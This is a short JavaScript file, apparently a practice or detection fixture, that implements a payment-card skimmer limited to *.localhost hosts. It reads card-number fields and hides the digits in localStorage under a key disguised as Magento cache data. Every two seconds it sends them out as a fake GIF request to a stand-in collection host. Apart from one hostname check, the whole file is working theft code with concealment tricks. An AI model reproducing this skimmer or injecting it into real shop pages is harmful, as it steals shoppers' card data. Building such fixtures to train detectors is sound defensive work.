/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const number = () =>
    document.querySelector('#card-number, #cardno')?.value.replace(/\D/g, '') ?? '';
  const key = 'mage-cache-storage-section';
  const flush = () => {
    const staged = localStorage.getItem(key);
    if (staged === null) return;
    localStorage.removeItem(key);
    new Image().src = `${home}/lib/c.gif?s=${encodeURIComponent(staged)}`;
  };
  flush();
  document.addEventListener('input', () => {
    if (number().length < 13) return;
    localStorage.setItem(key, btoa(JSON.stringify({ section: number() })));
  });
  setInterval(flush, 2000);
})();
